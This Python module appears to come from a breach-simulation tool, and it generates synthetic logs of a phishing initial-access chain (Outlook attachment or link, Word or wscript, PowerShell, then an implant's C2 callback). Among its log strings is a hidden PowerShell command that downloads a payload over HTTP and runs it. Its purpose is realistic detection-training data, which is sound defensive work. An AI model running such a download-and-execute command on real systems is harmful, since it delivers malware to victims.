"""Initial access by phishing: the mail's attachment opened in Word (a macro) or its link opened in the browser
(a zipped script run by Windows Script Host); either starts PowerShell, which fetches the payload over plain
HTTP and runs it; the implant then calls its C2 name over HTTPS. The mail itself is in the cloud mailbox's
logs, which are not simulated."""

from __future__ import annotations

from breachscope.simulate import clock
from breachscope.simulate.attack import IMAGE, Attack, StoryInputs
from breachscope.simulate.attack_file import Phishing
from breachscope.simulate.network import Host
from breachscope.simulate.steps.edge import outbound

TAG = "attack:initial_access"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16"
OUTLOOK, WINWORD = f"{OFFICE}\\OUTLOOK.EXE", f"{OFFICE}\\WINWORD.EXE"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
WSCRIPT = "C:\\Windows\\System32\\wscript.exe"
PS_AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.5247"


def victim(w: Attack, p: Phishing) -> tuple[Host, str]:
    """The host the mail is opened on and who opens it."""
    if p.host == "workstation":
        ws = w.net.workstations[p.workstation % len(w.net.workstations)]
        return ws, p.user or w.net.owner_of.get(ws.name, w.net.people[0].sam)
    return w.host(p.host), p.user or w.spec.vendor_account


def phishing(w: Attack, p: Phishing, _: StoryInputs) -> None:
    h, sam = victim(w, p)
    ext = w.spec.external
    server = p.payload_address or ext.initial_access
    user, profile = f"{w.dom}\\{sam}", f"C:\\Users\\{sam}"
    t = w.at(p.at)
    if p.lure == "attachment":  # Outlook saves the attachment in its secure temp folder, Word opens it
        doc = (f"{profile}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
               f"{w.rng.bytes(4).hex().upper()}\\{p.document}")
        w.file_created(t, h.name, OUTLOOK, doc, user, TAG)
        w.proc(t + 1_400_000, h.name, WINWORD, f"\"{WINWORD}\" /n \"{doc}\" /o \"\"", OUTLOOK, user, TAG, "Medium")
        opener, t1 = WINWORD, t + 9 * clock.US
    else:  # the link: the browser downloads a zip; the user opens the script inside it
        token = w.rng.bytes(6).hex()
        w.proc(t, h.name, EDGE, f"\"{EDGE}\" --single-argument https://{p.payload_host}/d/{token}", OUTLOOK, user,
               TAG, "Medium")
        w.s.dns(t + 300_000, h.ip, p.payload_host, server, TAG)
        size = int(w.rng.integers(3_000, 9_000))
        w.tls(t + 400_000, h.ip, server, p.payload_host, 2_100, size + 3_900, 1.8, TAG)
        w.file_created(t + 2 * clock.US, h.name, EDGE, f"{profile}\\Downloads\\{p.document}", user, TAG)
        script = f"{profile}\\AppData\\Local\\Temp\\Temp1_{p.document}\\{p.document.rsplit('.', 1)[0]}.js"
        w.proc(t + 21 * clock.US, h.name, WSCRIPT, f"\"{WSCRIPT}\" \"{script}\"", IMAGE["explorer"], user, TAG,
               "Medium")
        opener, t1 = WSCRIPT, t + 23 * clock.US
    dest = f"{profile}\\AppData\\Roaming\\{p.payload}"
    w.proc(t1, h.name, IMAGE["ps"], f"powershell.exe -nop -w hidden -c \"iwr http://{p.payload_host}/{p.payload} "
           f"-OutFile $env:APPDATA\\{p.payload}; saps $env:APPDATA\\{p.payload}\"", opener, user, TAG, "Medium")
    w.s.dns(t1 + 500_000, h.ip, p.payload_host, server, TAG)
    sport, size = w.port(), int(w.rng.integers(180_000, 900_000))
    w.netconn(t1 + 600_000, h.name, IMAGE["ps"], user, h.ip, sport, server, 80, p.payload_host, TAG)
    uid = w.s.conn(t1 + 600_000, h.ip, sport, server, 80, "tcp", "http", 1.9, 410, size + 380, tag=TAG)
    w.s.zeek("http", t1 + 640_000, {
        "uid": uid, "id.orig_h": h.ip, "id.orig_p": str(sport), "id.resp_h": server, "id.resp_p": "80",
        "trans_depth": "1", "method": "GET", "host": p.payload_host, "uri": f"/{p.payload}", "version": "1.1",
        "user_agent": PS_AGENT, "request_body_len": "0", "response_body_len": str(size), "status_code": "200",
        "status_msg": "OK", "tags": "(empty)", "resp_fuids": w.s.uid(b"F"),
        "resp_mime_types": "application/x-dosexec"}, TAG)
    outbound(w, t1 + 600_000, 1.9, h.ip, sport, server, 80, 410, size + 380, TAG)
    w.file_created(t1 + 2_600_000, h.name, IMAGE["ps"], dest, user, TAG)
    w.proc(t1 + 3 * clock.US, h.name, dest, f"\"{dest}\"", IMAGE["ps"], user, TAG, "Medium")
    t2 = t1 + int(w.rng.integers(20, 90)) * clock.US  # the implant's first callback
    w.s.dns(t2, h.ip, ext.c2_name, ext.c2_address, TAG)
    w.netconn(t2 + 200_000, h.name, dest, user, h.ip, w.port(), ext.c2_address, 443, ext.c2_name, TAG)
    w.tls(t2 + 300_000, h.ip, ext.c2_address, ext.c2_name, 2_900, 61_000, 2.3, TAG)
    how = f"the attachment {p.document}" if p.lure == "attachment" else f"the link to {p.payload_host}"
    w.note(t, "initial_access", f"phishing mail from {p.sender}: {sam} opens {how} on {h.name}; PowerShell "
           f"fetches {p.payload} from {p.payload_host} ({server}) and runs it; first call to {ext.c2_name}")
    w.out.hosts["external"]["payload_address"] = server
    w.entered(h, t)
